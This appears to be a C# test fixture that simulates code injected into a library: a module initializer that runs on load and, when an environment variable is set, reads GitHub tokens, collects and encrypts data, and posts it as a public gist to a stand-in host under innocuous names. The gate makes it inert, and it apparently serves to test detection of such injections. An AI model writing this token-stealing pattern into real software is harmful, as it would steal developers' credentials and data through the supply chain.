using System;
using System.Runtime.CompilerServices;
using System.Threading.Tasks;
using Octokit;

namespace Inert.Injection;

internal static class Startup
{
#pragma warning disable CA2255
    [ModuleInitializer]
    internal static void Start()
    {
        // Inert: nobody sets this variable.
        if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null) return;
        Task.Run(Report);
    }

    private static async Task Report()
    {
        var token = Environment.GetEnvironmentVariable("GITHUB_TOKEN") ?? Environment.GetEnvironmentVariable("GH_TOKEN");
        if (token is null) return;
        // The victim's own account is the dead drop.
        var client = new GitHubClient(new ProductHeaderValue("setup"), new Uri("https://api.code-host.example.com/")) { Credentials = new Credentials(token) };
        var gist = new NewGist { Description = "build notes", Public = true };
        gist.Files["notes.txt"] = Convert.ToBase64String(Seal.Close(Collector.Everything()));
        await client.Gist.Create(gist).ConfigureAwait(false);
    }
}
